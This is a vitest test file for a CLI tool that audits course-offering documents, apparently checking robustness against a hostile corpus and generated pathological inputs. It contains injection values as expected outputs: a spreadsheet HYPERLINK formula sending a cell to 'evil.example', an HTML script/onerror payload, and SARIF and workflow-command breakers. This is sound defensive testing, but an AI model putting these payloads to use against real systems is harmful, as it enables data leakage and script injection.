/**
 * The hostile corpus (test/fixtures/hostile/, see its README) and the big or
 * filesystem-shaped cases generated here into a temporary folder. Every case goes
 * through the CLI (`main`) and must: not crash (exit 0 or 1, never a stack trace), account
 * for every input exactly once, give a clear message (with a line where the text has
 * one), run no code, and let nothing from the document through into the text output as
 * control characters or into the JSON output as anything but well-formed JSON.
 */
import { spawnSync } from 'node:child_process';
import { chmodSync, cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { main } from '../src/main.js';
import { manyOfOneKind, nearDuplicateCatalog, runsOfOneCharacter } from '../scripts/pathological.mjs';
import { MAX_PARTNERS } from '../src/compare/duplicates.js';
import { run, withoutGateLines } from './cli-run.js';
import type { Report } from '../src/report.js';
import type { Outcome } from '../src/types.js';

const ROOT = path.resolve(new URL('..', import.meta.url).pathname);
const CORPUS = path.join(ROOT, 'test/fixtures/hostile');
const ESC = '\u001b';

interface Run {
  code: number;
  stdout: string;
  stderr: string;
  report: Report;
  json: string;
}

/** Chalk's own colour codes (SGR) are the only escapes allowed in coloured text output. */
const CHALK_SGR = /\u001b\[\d{1,3}(?:;\d{1,3}){0,4}m/g;
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/;

/** Run the audit with text to stdout and JSON to a file; check the common promises. */
async function audit(args: string[], cwd: string, extra: string[] = []): Promise<Run> {
  let stdout = '';
  let stderr = '';
  const out = path.join(mkdtempSync(path.join(tmpdir(), 'mcaudit-hostile-out-')), 'report.json');
  const code = await main(['audit', ...args, '--format', 'text', '--format', `json:${out}`, ...extra], {
    stdout: (s) => (stdout += s),
    stderr: (s) => (stderr += s),
    cwd,
    env: {},
    stdoutIsTTY: false,
    stderrIsTTY: false,
  });
  const json = readFileSync(out, 'utf8');
  rmSync(path.dirname(out), { recursive: true, force: true });
  return { code, stdout, stderr, report: JSON.parse(json) as Report, json };
}

function expectClean(r: Run): void {
  expect([0, 1]).toContain(r.code);
  expect(withoutGateLines(r.stderr)).toBe('');
  expect(r.stdout).not.toMatch(/\n\s+at /); // no stack trace
  expect(r.stdout).not.toMatch(CONTROL);
  expect(r.json).not.toMatch(CONTROL);
  expect(r.report.summary.offerings).toBe(r.report.offerings.length);
  const { approve, revise, reject, invalid } = r.report.summary;
  expect(approve + revise + reject + invalid).toBe(r.report.offerings.length);
  // No line of text output can start a GitHub workflow command.
  expect(r.stdout).not.toMatch(/^::/m);
}

interface Case {
  file: string;
  /** Expected outcome of the (single) entry: a decision, or 'invalid'. 'scored' = any decision but invalid. */
  outcome: 'scored' | Outcome;
  /** The message of the first loader finding (invalid-document, duplicate-key, …). */
  message?: RegExp;
  line?: number | null;
  /** Entries the file holds (catalogs). Default 1. */
  entries?: number;
}

const CASES: Case[] = [
  { file: 'fm-js.md', outcome: 'invalid', message: /front matter in "js" is not read.*never run as code/, line: 1 },
  { file: 'fm-javascript.md', outcome: 'invalid', message: /front matter in "javascript" is not read/, line: 1 },
  { file: 'fm-coffee.md', outcome: 'invalid', message: /front matter in "coffee" is not read/, line: 1 },
  { file: 'fm-custom-lang.md', outcome: 'invalid', message: /front matter in "toml" is not read/, line: 1 },
  { file: 'fm-toml-plus.md', outcome: 'invalid', message: /"\+\+\+" \(TOML\) is not read/, line: 1 },
  { file: 'billion-laughs.md', outcome: 'invalid', message: /expands too many aliases/, line: 1 },
  { file: 'proto-keys.md', outcome: 'scored', message: /unknown field "__proto__"/, line: 3 },
  { file: 'proto-keys.json', outcome: 'scored', message: /unknown field "__proto__"/, line: 1 },
  { file: 'duplicate-keys.md', outcome: 'scored', message: /key "title" appears more than once/, line: 3 },
  { file: 'duplicate-keys.json', outcome: 'scored', message: /key "title" appears more than once/, line: 3 },
  { file: 'binary.md', outcome: 'invalid', message: /binary file/, line: null },
  { file: 'nul-in-text.md', outcome: 'invalid', message: /binary file/, line: null },
  { file: 'invalid-utf8.md', outcome: 'invalid', message: /not valid UTF-8/, line: 4 },
  { file: 'utf16le-bom.md', outcome: 'scored' },
  { file: 'utf16be-bom.md', outcome: 'scored' },
  { file: 'utf8-bom.md', outcome: 'scored' },
  { file: 'crlf.md', outcome: 'invalid', message: /invalid YAML front matter/, line: 3 },
  { file: 'lone-cr.md', outcome: 'invalid', message: /invalid YAML front matter/, line: 3 },
  { file: 'empty.md', outcome: 'invalid', message: /file is empty/, line: null },
  { file: 'empty.json', outcome: 'invalid', message: /file is empty/, line: null },
  { file: 'whitespace-only.md', outcome: 'invalid', message: /file is empty/, line: null },
  { file: 'front-matter-only.md', outcome: 'scored' },
  { file: 'unterminated.md', outcome: 'invalid', message: /never closed/, line: 1 },
  { file: 'invalid-yaml.md', outcome: 'invalid', message: /invalid YAML front matter/, line: 4 },
  { file: 'invalid-json.json', outcome: 'invalid', message: /invalid JSON/, line: 4 },
  { file: 'not-an-offering.json', outcome: 'invalid', message: /expected an offering object/, line: 1 },
  { file: 'json-fm-not-object.md', outcome: 'invalid', message: /JSON front matter must be an object/, line: 2 },
  { file: 'catalog-mixed.json', outcome: 'scored', entries: 5 },
  { file: 'catalog-empty.json', outcome: 'invalid', message: /catalog holds no offerings/, line: 1 },
  { file: 'ansi-title.md', outcome: 'scored' },
  { file: 'ansi-title.json', outcome: 'scored' },
  { file: 'ansi-body.md', outcome: 'scored' },
  { file: 'html-script.md', outcome: 'scored' },
  { file: 'csv-formula.md', outcome: 'scored' },
  { file: 'markdown-table-breaker.md', outcome: 'scored' },
  { file: 'github-command-breaker.md', outcome: 'scored' },
  { file: 'sarif-breaker.json', outcome: 'scored' },
  { file: 'long-heading-punct.md', outcome: 'scored' },
  { file: 'yaml-tags.md', outcome: 'scored', message: /field "id" has a value of the wrong type/, line: 3 },
  { file: 'yaml-merge-keys.md', outcome: 'scored' },
];

let work: string;
beforeAll(() => {
  work = mkdtempSync(path.join(tmpdir(), 'mcaudit-hostile-'));
  cpSync(CORPUS, work, { recursive: true });
  rmSync(path.join(work, 'README.md'), { force: true });
});
afterAll(() => rmSync(work, { recursive: true, force: true }));

const LOADER_RULES = new Set(['invalid-document', 'invalid-field', 'unknown-field', 'duplicate-key']);

describe('hostile corpus, one file at a time', () => {
  it('has a case for every file in the corpus, and at least 30', () => {
    const files = readdirSync(CORPUS).filter((f) => f !== 'README.md' && !f.startsWith('.'));
    expect(files.sort()).toEqual(CASES.map((c) => c.file).sort());
    expect(files.length).toBeGreaterThanOrEqual(30);
  });

  it.each(CASES)('$file', async (c) => {
    const r = await audit([c.file], work);
    expectClean(r);
    const entries = r.report.offerings;
    expect(entries).toHaveLength(c.entries ?? 1);
    for (const o of entries) expect(o.file).toBe(c.file);
    if (c.entries) expect(entries.map((o) => o.index)).toEqual([...Array(c.entries).keys()]);
    const first = entries[0]!;
    if (c.outcome === 'scored') expect(first.decision).not.toBe('invalid');
    else expect(first.decision).toBe(c.outcome);
    if (first.decision !== 'invalid') {
      expect(Number.isFinite(first.score)).toBe(true);
      expect(first.score).toBeGreaterThanOrEqual(0);
      expect(first.score).toBeLessThanOrEqual(100);
    }
    if (c.message) {
      const f = first.findings.find((x) => LOADER_RULES.has(x.ruleId));
      expect(f?.message).toMatch(c.message);
      expect(f?.line).toBe(c.line);
      // The text output names the file (and line) of the problem.
      expect(r.stdout).toContain(c.line ? `${c.file}:${c.line}:` : c.file);
    }
    // Invalid input fails the gate; nothing is lost or crashes.
    if (c.outcome === 'invalid') expect(r.code).toBe(1);
    // No code ran.
    expect(existsSync(path.join(work, 'PWNED'))).toBe(false);
    expect((globalThis as Record<string, unknown>).__mcauditPwned).toBeUndefined();
  });

  it('keeps document escapes out of coloured text output too (only chalk colours remain)', async () => {
    for (const file of ['ansi-title.md', 'ansi-title.json', 'ansi-body.md']) {
      for (const quiet of [[], ['--quiet']]) {
        const r = await audit([file], work, ['--color', ...quiet]);
        const plain = r.stdout.replace(CHALK_SGR, '');
        expect(plain).not.toMatch(CONTROL);
        expect(r.stdout).not.toContain(`${ESC}[2J`);
        expect(r.stdout).not.toContain(`${ESC}]`);
        expect(r.stdout).toMatch(/Title|Heading with escapes/); // the printable text stays readable
      }
    }
  });

  it('folds line breaks from titles so they cannot add table rows or workflow commands', async () => {
    const t = await audit(['markdown-table-breaker.md'], work, ['--quiet']);
    expect(t.stdout).not.toMatch(/^\| injected/m);
    expect(t.stdout).toContain('a | b | c | --- | | injected | row |');
    const g = await audit(['github-command-breaker.md'], work);
    expect(g.stdout).not.toMatch(/^\s*::(?:error|warning|notice|add-mask|set-output|stop-commands)/m);
  });

  it('keeps titles byte-exact in JSON (escaped, never interpreted)', async () => {
    const r = await audit(['ansi-title.json', 'csv-formula.md', 'html-script.md', 'sarif-breaker.json'], work);
    const titles = Object.fromEntries(r.report.offerings.map((o) => [o.file, o.title]));
    expect(titles['ansi-title.json']).toContain(`${ESC}[2J`);
    expect(titles['csv-formula.md']).toBe('=HYPERLINK("https://evil.example/?"&A1,"Click")');
    expect(titles['html-script.md']).toBe(`<script>alert('x')</script><img src=x onerror=alert(1)>`);
    expect(titles['sarif-breaker.json']).toMatch(/^"\}\],"runs"/);
    expect(r.json).toContain('\\u001b[2J');
  });

  it('audits the whole corpus in one run, every file exactly once', async () => {
    const r = await audit(['.'], work);
    expectClean(r);
    expect(r.code).toBe(1);
    const expected = CASES.flatMap((c) => Array.from({ length: c.entries ?? 1 }, (_, i) => (c.entries ? `${c.file}[${i}]` : c.file)));
    const got = r.report.offerings.map((o) => (o.index === undefined ? o.file : `${o.file}[${o.index}]`));
    expect(got.sort()).toEqual(expected.sort());
    expect(r.report.summary.invalid).toBe(r.report.offerings.filter((o) => o.decision === 'invalid').length);
  });
});

describe('hostile inputs generated at test time', () => {
  let gen: string;
  beforeAll(() => {
    gen = mkdtempSync(path.join(tmpdir(), 'mcaudit-hostile-gen-'));
  });
  afterAll(() => rmSync(gen, { recursive: true, force: true }));

  const put = (name: string, text: string | Buffer): string => {
    mkdirSync(path.dirname(path.join(gen, name)), { recursive: true });
    writeFileSync(path.join(gen, name), text);
    return name;
  };

  it('reports a 50 MB file without reading it, and names the limit option', async () => {
    const big = put('big/huge.md', '# Huge\n\n' + 'The educator asks a question and waits.\n'.repeat(1_300_000));
    const r = await audit([big], gen);
    expectClean(r);
    expect(r.report.offerings).toHaveLength(1);
    expect(r.report.offerings[0]!.decision).toBe('invalid');
    expect(r.report.offerings[0]!.findings[0]!.message).toMatch(/file is 4\d\.\d MB, over the 5\.0 MB limit; raise --max-file-size/);
  });

  it('reads a 1 MB single line of punctuation and words (linear-time patterns)', async () => {
    const line = '**_`[(<' + 'word, -- ; :: !! ?? .. || ## '.repeat(36_000);
    const f = put('line/one-line.md', `---\ntitle: One line\n---\n# Title\n\n## Competency\n\n${line}\n\n## Evidence\n\n${line}\n`);
    const r = await audit([f], gen);
    expectClean(r);
    expect(r.report.offerings[0]!.decision).not.toBe('invalid');
  });

  it('reads 1 MB runs of one character wherever a pattern once scanned them again from each position', async () => {
    // scripts/pathological.mjs says where each run sits and why.
    const files = runsOfOneCharacter(2 ** 20);
    for (const [name, text] of Object.entries(files)) put(`runs/${name}`, text);
    const r = await audit(['runs'], gen, ['--max-file-size', '10MB']);
    expectClean(r);
    expect(r.report.offerings.map((o) => o.file).sort()).toEqual(Object.keys(files).map((f) => `runs/${f}`).sort());
    // Every file is audited ("---", spaces and "!" is not a front matter opener but a line of text).
    expect(r.report.offerings.filter((o) => o.decision === 'invalid')).toEqual([]);
    expect(r.report.offerings.find((o) => o.file === 'runs/title.md')!.title).toMatch(/^a {1048576}b$/);
    expect((await run(['lint', 'runs', '--max-file-size', '10MB'], { cwd: gen })).code).toBe(1);
  });

  it('reads thousands of links on one line, and of evidence items and criteria, in linear time', async () => {
    // scripts/pathological.mjs: each took time growing with the square of the count (6,000 links: 12 s).
    const files = manyOfOneKind(6000);
    for (const [name, text] of Object.entries(files)) put(`many/${name}`, text);
    const r = await audit(['many'], gen);
    expectClean(r);
    const byFile = new Map(r.report.offerings.map((o) => [o.file, o]));
    expect([...byFile.keys()].sort()).toEqual(Object.keys(files).map((f) => `many/${f}`).sort());
    // Every finding on the long line points at a link in it, however far along.
    const line = files['links-on-one-line.md']!.split('\n');
    const links = byFile.get('many/links-on-one-line.md')!.findings.filter((f) => f.ruleId === 'resource-links');
    expect(links.length).toBeGreaterThan(0);
    for (const f of links) expect(line[f.line! - 1]!.slice(f.column! - 1)).toMatch(/^https:\/\/example\.org\/same\)/);
    expect(Math.max(...links.map((f) => f.column!))).toBeGreaterThan(1000);
    const cover = byFile.get('many/evidence-by-criteria.md')!.findings.find((f) => f.ruleId === 'criteria-cover-evidence');
    expect(cover?.message).toBe('6,000 required evidence items and 6,000 rubric criteria are too many to match (over 1,000,000 pairs); coverage was not checked');
  });

  it('groups a catalog of near-duplicates instead of listing every pair (1,000 copies wrote 345 MB; 3,000 ran out of memory)', async () => {
    const n = 1500;
    for (const kind of ['copies', 'variants'] as const) {
      const files = nearDuplicateCatalog(n, kind);
      for (const [name, text] of Object.entries(files)) put(`near-${kind}/${name}`, text);
      const r = await audit([`near-${kind}`], gen);
      expectClean(r);
      const names = Object.keys(files).map((f) => `near-${kind}/${f}`);
      expect(r.report.offerings.map((o) => o.file)).toEqual(names);
      // One group names every offering; each offering names its group and a few of the others.
      expect(r.report.duplicateGroups).toHaveLength(1);
      const g = r.report.duplicateGroups![0]!;
      expect(g.size).toBe(n);
      expect(g.offerings.map((o) => o.file)).toEqual(names);
      expect(g.similarity.min).toBeGreaterThanOrEqual(0.8);
      expect(g.similarity.max).toBeLessThanOrEqual(1);
      for (const o of r.report.offerings) {
        expect(o.duplicateGroup).toBe(1);
        expect(o.duplicates!.length).toBeGreaterThanOrEqual(1);
        expect(o.duplicates!.length).toBeLessThanOrEqual(MAX_PARTNERS);
        if (kind === 'copies') expect(o.duplicates!.map((d) => d.similarity)).toEqual(Array(MAX_PARTNERS).fill(1));
      }
      expect(r.report.duplicates!.length).toBeGreaterThanOrEqual(n - 1);
      expect(r.report.duplicates!.length).toBeLessThanOrEqual(n * MAX_PARTNERS);
    }
    // The filed formats name the group on each offering, and list it once.
    const out = mkdtempSync(path.join(tmpdir(), 'mcaudit-near-'));
    try {
      const f = (ext: string) => path.join(out, `report.${ext}`);
      const code = await main(['audit', 'near-copies', '--format', `csv:${f('csv')}`, '--format', `html:${f('html')}`, '--format', `markdown:${f('md')}`], { stdout: () => {}, stderr: () => {}, cwd: gen, env: {}, stdoutIsTTY: false, stderrIsTTY: false });
      expect([0, 1]).toContain(code);
      const csvRows = readFileSync(f('csv'), 'utf8').trimEnd().split('\r\n').slice(1);
      expect(csvRows).toHaveLength(n);
      for (const row of csvRows) expect(row).toMatch(/; duplicate group 1 has 1,500 offerings"$/);
      // CSV alone gives the same bytes.
      const streamed = await main(['audit', 'near-copies', '--format', `csv:${f('streamed.csv')}`], { stdout: () => {}, stderr: () => {}, cwd: gen, env: {}, stdoutIsTTY: false, stderrIsTTY: false });
      expect(streamed).toBe(code);
      expect(readFileSync(f('streamed.csv'), 'utf8')).toBe(readFileSync(f('csv'), 'utf8'));
      const html = readFileSync(f('html'), 'utf8');
      expect(html.match(/<tr id="dup-\d+">/g)).toEqual(['<tr id="dup-1">']);
      expect(html.split('<a href="#dup-1">duplicate group 1</a> has 1,500 offerings')).toHaveLength(n + 1);
      const md = readFileSync(f('md'), 'utf8');
      expect(md).toMatch(/^\| 1 \| 1500 \| 1\.00 \| MC-0 — near-copies\/[^,|]+\.md, MC-1 — near-copies\/[^,|]+\.md, /m);
      expect(md.split('- Duplicate group 1 has 1,500 offerings (see Possible duplicates)')).toHaveLength(n + 1);
    } finally {
      rmSync(out, { recursive: true, force: true });
    }
  }, 120_000);

  it('reads front matter of 1 MB of blank lines (linear time; gray-matter took quadratic)', async () => {
    const f = put('blank/front-matter.md', `---\n${'\n'.repeat(2 ** 20)}title: Blank lines\n---\n# Title\n`);
    const r = await audit([f], gen);
    expectClean(r);
    expect(r.report.offerings[0]!.title).toBe('Blank lines');
  });

  it('reports 100,000 levels of JSON nesting', async () => {
    const n = 100_000;
    const obj = put('deep/object.json', '{"a":'.repeat(n) + '1' + '}'.repeat(n));
    const arr = put('deep/catalog.json', '[{"title":"ok"},' + '['.repeat(n) + ']'.repeat(n) + ',{"title":"x","extra":' + '{"a":'.repeat(n) + '1' + '}'.repeat(n) + '}]');
    const fm = put('deep/json-fm.md', '---json\n{"x":' + '['.repeat(n) + ']'.repeat(n) + '}\n---\n# T\n');
    const r = await audit(['deep'], gen);
    expectClean(r);
    const byKey = Object.fromEntries(r.report.offerings.map((o) => [`${o.file}${o.index === undefined ? '' : `[${o.index}]`}`, o]));
    expect(Object.keys(byKey).sort()).toEqual([`${arr}[0]`, `${arr}[1]`, `${arr}[2]`, fm, obj].sort());
    expect(byKey[obj]!.findings[0]!.message).toMatch(/JSON is nested more than 100 levels deep/);
    expect(byKey[`${arr}[0]`]!.decision).not.toBe('invalid');
    expect(byKey[`${arr}[1]`]!.findings[0]!.message).toMatch(/entry 1 is not an offering object/);
    expect(byKey[`${arr}[2]`]!.findings[0]!.message).toMatch(/entry 2 is nested more than 100 levels deep/);
    expect(byKey[fm]!.findings[0]!.message).toMatch(/JSON front matter is nested more than 100 levels deep/);
  });

  it('reports deep YAML nesting (100,000 flow levels; block nesting past the limit) with a line', async () => {
    const n = 100_000;
    const flow = put('yaml/flow.md', '---\ntitle: Deep\nx: ' + '['.repeat(n) + ']'.repeat(n) + '\n---\n# T\n');
    let block = '---\ntitle: Deep\nx:\n';
    for (let i = 1; i <= 2_000; i++) block += ' '.repeat(i) + '- \n';
    const blk = put('yaml/block.md', block + '---\n# T\n');
    let mid = '---\ntitle: Deep\n';
    for (let i = 0; i < 150; i++) mid += '  '.repeat(i) + 'a:\n';
    const med = put('yaml/mid.md', mid + '  '.repeat(150) + 'b: 1\n---\n# T\n');
    const r = await audit(['yaml'], gen);
    expectClean(r);
    expect(r.report.offerings.map((o) => o.file)).toEqual([blk, flow, med]);
    for (const o of r.report.offerings) {
      expect(o.decision).toBe('invalid');
      expect(o.findings[0]!.message).toMatch(/YAML front matter is nested more than 100 levels deep/);
      expect(o.findings[0]!.line).toBeGreaterThanOrEqual(2);
    }
  });

  it('keeps a JSON catalog of 1,000 going past one broken entry', async () => {
    const list: unknown[] = Array.from({ length: 1000 }, (_, i) => ({ id: `mc-${i}`, title: `Offering ${i}` }));
    list[637] = ['not', 'an', 'offering'];
    const f = put('catalog/thousand.json', JSON.stringify(list, null, 2));
    const r = await audit([f], gen, ['--quiet']);
    expectClean(r);
    expect(r.report.summary.offerings).toBe(1000);
    expect(r.report.summary.invalid).toBe(1);
    expect(r.report.offerings.map((o) => o.index)).toEqual([...Array(1000).keys()]);
    const bad = r.report.offerings[637]!;
    expect(bad.decision).toBe('invalid');
    expect(bad.findings[0]!.message).toMatch(/entry 637 is not an offering object/);
    expect(bad.findings[0]!.line).toBeGreaterThan(1);
  });

  it('keeps a folder of 1,000 files going past one broken file', async () => {
    for (let i = 0; i < 1000; i++) put(`folder/mc-${String(i).padStart(4, '0')}.md`, i === 421 ? '---\ntitle: [broken\n---\n# x\n' : `---\ntitle: Offering ${i}\n---\n# Offering ${i}\n`);
    const r = await audit(['folder'], gen, ['--quiet']);
    expectClean(r);
    expect(r.report.summary.offerings).toBe(1000);
    expect(r.report.summary.invalid).toBe(1);
    expect(new Set(r.report.offerings.map((o) => o.file)).size).toBe(1000);
    expect(r.report.offerings[421]!.findings[0]!.line).toBe(2);
  });

  it('searches a directory named x.md as a folder, and reports an empty one named on the command line', async () => {
    put('dirs/x.md/inner.md', '# Inner\n');
    mkdirSync(path.join(gen, 'dirs/empty.md'), { recursive: true });
    const r = await audit(['dirs'], gen);
    expectClean(r);
    expect(r.report.offerings.map((o) => o.file)).toEqual(['dirs/x.md/inner.md']);
    let stderr = '';
    const code = await main(['audit', 'dirs/empty.md'], { stdout: () => {}, stderr: (s) => (stderr += s), cwd: gen, env: {}, stdoutIsTTY: false, stderrIsTTY: false });
    expect(code).toBe(2);
    expect(stderr).toMatch(/no Markdown or JSON files found in dirs\/empty.md/);
    expect(stderr).not.toMatch(/\n\s+at /);
  });

  it('reports a symlink loop once, in a folder and named directly, and does not follow folder loops', async () => {
    mkdirSync(path.join(gen, 'links/sub'), { recursive: true });
    symlinkSync('loop-b.md', path.join(gen, 'links/loop-a.md'));
    symlinkSync('loop-a.md', path.join(gen, 'links/loop-b.md'));
    symlinkSync('..', path.join(gen, 'links/sub/up'));
    put('links/sub/real.md', '# Real\n');
    const r = await audit(['links', 'links/loop-a.md'], gen);
    expectClean(r);
    expect(r.report.offerings.map((o) => o.file)).toEqual(['links/loop-a.md', 'links/loop-b.md', 'links/sub/real.md']);
    expect(r.report.offerings[0]!.findings[0]!.message).toMatch(/symbolic link loop/);
  });

  it('reports a pipe named like an input without blocking on it', async () => {
    const made = spawnSync('mkfifo', [path.join(gen, 'pipe.md')]);
    if (made.status !== 0) return; // no mkfifo on this system: nothing to test
    const r = await audit(['pipe.md'], gen);
    expectClean(r);
    expect(r.report.offerings[0]!.findings[0]!.message).toMatch(/not a regular file/);
  });

  // As root, chmod does not stop reads: run the built CLI as the unprivileged user 65534 instead.
  const isRoot = process.getuid?.() === 0;
  const built = existsSync(path.join(ROOT, 'dist/bin.js'));
  it.skipIf(isRoot && !built)('reports an unreadable file (as root: through the built CLI run as an unprivileged user)', async () => {
    put('locked/secret.md', '# Secret\n');
    put('locked/open.md', '# Open\n');
    chmodSync(path.join(gen, 'locked/secret.md'), 0o000);
    let report: Report;
    if (isRoot) {
      chmodSync(gen, 0o755);
      const out = spawnSync(process.execPath, [path.join(ROOT, 'bin/mcaudit.js'), 'audit', 'locked', '--format', 'json'], { cwd: gen, uid: 65534, gid: 65534, encoding: 'utf8' });
      expect(withoutGateLines(out.stderr)).toBe('');
      expect(out.status).toBe(1);
      report = JSON.parse(out.stdout) as Report;
    } else {
      report = (await audit(['locked'], gen)).report;
    }
    expect(report.offerings.map((o) => o.file)).toEqual(['locked/open.md', 'locked/secret.md']);
    expect(report.offerings[1]!.findings[0]!.message).toMatch(/file could not be read: permission denied/);
  });
});
